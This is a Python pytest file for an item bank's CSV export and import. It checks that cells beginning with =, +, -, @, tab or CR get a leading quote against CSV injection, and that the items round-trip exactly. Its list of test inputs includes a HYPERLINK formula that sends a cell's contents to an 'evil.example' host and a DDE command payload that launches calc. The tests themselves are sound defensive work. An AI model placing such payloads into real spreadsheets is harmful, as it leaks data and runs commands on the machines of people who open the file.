"""The CSV export cannot carry a formula into a spreadsheet (OWASP "CSV injection"), and the
CSV import reads the export back to the same items: text cells starting with = + - @ tab or
CR get a leading quote, numbers stay numbers, and only the quote the export added is removed."""

from __future__ import annotations

import csv
import io
import json

import pytest
from item_bank_helpers import build_world

from item_bank import admin
from item_bank.item_file import export_items, import_file
from item_bank.models import Materi

NUMBER_COLUMNS = {"a", "b", "c", "se_a", "se_b", "se_c"}
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+62 812 000", "-5 derajat",
           "@SUM(A1:A9)", "\tcmd|' /C calc'!A0", "\rbaris", "'=sudah dikutip", "''dua kutip",
           "'Tis biasa", "'", "biasa saja"]


@pytest.fixture
def world(session):
    return build_world(session, items_per_materi=0, n_materi=1)


def _add_hostile_items(session, world) -> None:
    materi = session.get(Materi, world.materi[0].id)
    for n, stem in enumerate(HOSTILE):
        session.add(admin.new_item(
            world.program, materi, code=f"-{n}" if n % 2 else f"=ID{n}", stem=stem,
            options=[HOSTILE[(n + 1) % len(HOSTILE)], "=1+1", "-1", "@x"], key=n % 4,
            model="3pl", a=1.3, b=-1.2 - n / 10, c=0.1, status="operational",
            author="=cmd()"))
    session.commit()


def test_csv_export_neutralises_formulas_and_keeps_numbers(session, world):
    _add_hostile_items(session, world)
    rows = list(csv.DictReader(io.StringIO(export_items(session, program_code="LATSAR",
                                                        fmt="csv"))))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column, cell in row.items():
            if column in NUMBER_COLUMNS:
                assert cell == "" or float(cell) == float(cell), (column, cell)
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert {r["b"] for r in rows} >= {"-1.2", "-1.3"}  # negative numbers written as numbers
    by_stem = {r["stem"]: r for r in rows}
    assert by_stem["'" + HOSTILE[0]]["option_b"] == "'=1+1"
    assert by_stem["'" + HOSTILE[0]]["author"] == "'=cmd()"
    assert "'biasa saja" not in by_stem and "biasa saja" in by_stem
    assert "'Tis biasa" in by_stem and "'" in by_stem  # nothing to neutralise: as it is


def test_csv_export_reimports_identically(session, world):
    _add_hostile_items(session, world)
    data = export_items(session, program_code="LATSAR", fmt="csv").encode()
    build_world(session, code="OTHER", items_per_materi=0, n_materi=1)
    plan = import_file(session, data, filename="bank.csv", program_code="OTHER", actor="import",
                       allow_operational=True)
    assert len(plan.new) == len(HOSTILE)
    mine = json.loads(export_items(session, program_code="LATSAR", fmt="json"))
    again = json.loads(export_items(session, program_code="OTHER", fmt="json"))
    assert again == mine
    assert sorted(r["stem"] for r in again) == sorted(HOSTILE)


@pytest.mark.parametrize("text", [*HOSTILE, "", "-", "''", "'-", "a'=b"])
def test_csv_text_round_trips_every_text(text):
    from item_bank.importexport import csv_text, csv_untext

    assert csv_untext(csv_text(text)) == text
